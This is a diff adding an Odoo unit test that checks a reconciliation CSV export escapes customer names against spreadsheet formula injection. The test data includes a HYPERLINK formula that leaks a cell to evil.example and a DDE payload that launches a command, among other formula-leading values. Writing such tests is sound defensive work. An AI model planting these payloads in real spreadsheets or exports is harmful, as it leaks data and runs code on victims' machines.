@@ -1,5 +1,7 @@
 import base64
 import calendar
+import csv
+import io
 from datetime import date, datetime, timedelta
 
 from odoo import fields
@@ -101,6 +103,27 @@ class TestCaReconciliation(CaChargeCase):
         self.assertNotIn(('not_booked', unseen), {(line.kind, line.ca_order_number)
                                                   for line in reconciliation.line_ids})
         self.assertEqual(len(reconciliation.line_ids), 6)
+
+    def test_the_export_opens_as_text_in_a_spreadsheet(self):
+        # Customer names are typed by anyone (a portal sign-up, an import); a spreadsheet would run
+        # a cell starting with = + - @ (or a tab or CR it trims) as a formula.
+        month = date(2011, 3, 1)
+        names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3',
+                 '@SUM(1,2)', '\t=1+1', '\r=1+1']
+        orders = self.env['comodo.certificate.order']
+        for name in names:
+            self.customer = self.env['res.partner'].create({'name': name, 'email': 'formula@example.com'})
+            self._subscribe(self.customer, self.plan)
+            order = self._buy(unique_domain('never'))
+            order._cancel_billing('Credited by hand')
+            self._plant(order, month)
+            orders |= order
+        rows = list(csv.DictReader(io.StringIO(self._exported(self._reconcile(month)))))
+        self.assertEqual(sorted(row['Customer'] for row in rows), sorted("'" + name for name in names))
+        self.assertEqual({row['Certificate Order'] for row in rows}, set(orders.mapped('name')),
+                         'our own text as it is')
+        for row in rows:
+            self.assertEqual((row['CA Cost'], row['Odoo Cost']), ('12.50', '12.50'), 'amounts stay numbers')
 
     def _exported(self, reconciliation):
         action = reconciliation.action_export_csv()
